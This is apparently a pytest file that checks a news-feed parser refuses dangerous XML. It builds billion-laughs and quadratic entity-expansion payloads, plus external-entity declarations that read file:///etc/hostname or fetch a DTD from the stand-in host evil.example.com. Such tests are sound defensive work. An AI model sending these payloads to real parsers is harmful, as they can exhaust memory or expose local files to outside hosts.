"""A feed cannot expand into gigabytes or make us read files through XML entities."""

import pytest

from newsfold.pipeline.feeds import FeedError, parse_feed


def billion_laughs(separator):
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE rss [' + separator.join(entities) + "]>\n"
        '<rss version="2.0"><channel><title>&lol9;</title>'
        "<item><title>&lol9;</title></item></channel></rss>"
    ).encode()


@pytest.mark.parametrize("separator", ["\n", "", " "])
def test_billion_laughs_is_refused(separator):
    with pytest.raises(FeedError, match="refused"):
        parse_feed(billion_laughs(separator))


def test_billion_laughs_in_utf16_is_refused():
    with pytest.raises(FeedError, match="refused"):
        parse_feed(billion_laughs("\n").decode().encode("utf-16"))


@pytest.mark.parametrize(
    "declaration",
    [
        '<!ENTITY secret SYSTEM "file:///etc/hostname">',
        '<!ENTITY % remote PUBLIC "-//X//Y" "https://evil.example.com/x.dtd"> %remote;',
    ],
)
def test_external_entities_are_refused(declaration):
    content = (
        f"<!DOCTYPE rss [{declaration}]>"
        '<rss version="2.0"><channel><title>T</title>'
        "<item><title>&secret;</title></item></channel></rss>"
    ).encode()
    with pytest.raises(FeedError, match="external XML entities"):
        parse_feed(content)


def test_quadratic_blowup_is_refused():
    big = "x" * 5000
    content = (
        f'<!DOCTYPE rss [<!ENTITY big "{big}">]><rss version="2.0"><channel>'
        f"<title>T</title><item><title>{'&big;' * 1000}</title></item></channel></rss>"
    ).encode()
    with pytest.raises(FeedError, match="oversized"):
        parse_feed(content)


def test_a_short_literal_entity_is_still_allowed():
    content = b"""<!DOCTYPE rss [
  <!ENTITY shop "The Corner Shop">
]>
<rss version="2.0"><channel><title>&shop;</title>
<item><title>News from &shop;</title></item></channel></rss>"""
    feed = parse_feed(content)
    assert feed.entries[0].title == "News from The Corner Shop"
